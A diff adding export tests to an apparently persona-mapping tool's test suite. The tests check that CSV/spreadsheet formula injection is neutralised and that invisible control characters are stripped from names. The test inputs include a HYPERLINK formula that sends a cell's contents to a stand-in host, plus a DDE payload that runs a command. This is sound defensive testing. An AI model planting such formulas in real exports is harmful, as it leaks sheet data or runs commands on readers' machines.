@@ -16,6 +16,7 @@ from browsing import guarded_context
 from journeykit.app.cli import main
 from journeykit.app.export import (
     KEPT_PRIVATE,
+    WRITERS,
     Shared,
     report_html,
     shareable_document,
@@ -335,3 +336,41 @@ def test_every_file_of_the_final_map_step_is_made_or_says_why(
         said = unescape(panel.status.value)
         assert "Not made: 'ces' (KeyError). This is a fault in JourneyKit" in said
         assert panel.download.value == ""
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://x.example/?"&A2,"Click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+1"],
+)
+def test_a_formula_typed_as_text_stays_text_in_every_table(tmp_path: Path, typed: str) -> None:
+    """OWASP's CSV injection: read back with openpyxl and a CSV reader, the cell is the text."""
+    import csv
+
+    import openpyxl
+
+    with Store(str(tmp_path / "w.db")) as store:
+        team = practice_team(store)
+        store.add(team, Persona(id="evil", name=typed, goals=[typed]))
+        write_tables(store, team, tmp_path / "t.xlsx", "xlsx")
+        write_tables(store, team, tmp_path / "csv", "csv")
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["personas"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and typed in str(c.value)]
+    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)
+    with (tmp_path / "csv" / "personas.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    texts = [cell for row in rows for cell in row if typed in cell]
+    assert texts and all(cell.startswith("'") for cell in texts)
+
+
+def test_characters_no_one_can_see_never_reach_an_export(tmp_path: Path) -> None:
+    """A name pasted from a word processor with a vertical tab, an escape or NUL: saved without
+    them, and the report, SVG charts, the workbook and the mini-app are all made."""
+    with Store(str(tmp_path / "w.db")) as store:
+        team = practice_team(store)
+        store.add(team, Persona(id="pasted", name="Night\x0bnurse\x1b\x00 \u202eX"))
+        assert store.get(team, Persona, "pasted").item.name == "Night nurse X"
+        for kind, write in WRITERS.items():
+            target = tmp_path / (f"out.{kind}" if kind in ("json", "xlsx") else kind)
+            write(store, team, target)
+        assert "Night nurse X" in report_html(Shared.of(store, team))
+        publish(store, team, tmp_path / "app")
